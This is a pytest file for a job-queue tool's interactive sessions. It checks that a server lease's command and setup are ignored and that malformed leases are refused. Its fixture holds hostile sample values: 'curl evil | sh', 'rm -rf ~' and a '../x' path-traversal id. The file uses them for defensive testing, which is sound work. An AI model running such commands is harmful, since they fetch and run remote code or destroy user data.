"""A lab member's interactive session is built from their own request: whatever
command or setup the server's lease carries is ignored."""

import dataclasses

import pytest

from wq import codec
from wq.errors import WqError
from wq.interactive import own_lease
from wq.model import Host, JobSpec, Placement, Slice
from wq.protocol import events
from wq.protocol.calls import HostRef


def lease(**kw):  # type: ignore[no-untyped-def]
    node = Host(name="n1", cores=4, address="10.0.0.1", user="operator",
                ssh=dataclasses.replace(Host(name="x", cores=1).ssh,
                                        identity=("/home/operator/.ssh/id",)))
    base = events.Lease("n1", False, "curl evil | sh", "rm -rf ~",
                        {"username": "operator"}, 1,
                        codec.placement_to_list(Placement((Slice("n1", 2),))),
                        [dataclasses.asdict(HostRef.of(node))], "abc123", 5.0)
    return dataclasses.replace(base, **kw)


def test_the_session_runs_the_members_own_command_with_their_own_ssh():
    spec = JobSpec(command="python3 train.py", cwd="/home/bob", interactive=True)
    mine = own_lease(lease(), spec, "12", "bob")
    assert "evil" not in mine.setup + mine.command and "rm -rf" not in mine.setup + mine.command
    assert "train.py" in mine.setup + mine.command and "/home/bob" in mine.setup + mine.command
    assert mine.connect is not None and "username" not in mine.connect
    assert "client_keys" not in mine.connect and mine.connect["host"] == "10.0.0.1"


@pytest.mark.parametrize("bad", [{"server_id": "../x"}, {"placement": None}, {"hosts": []}])
def test_a_lease_wq_cannot_use_is_refused(bad):
    spec = JobSpec(command="bash", cwd="/home/bob", interactive=True)
    with pytest.raises(WqError):
        own_lease(lease(**bad), spec, "12", "bob")
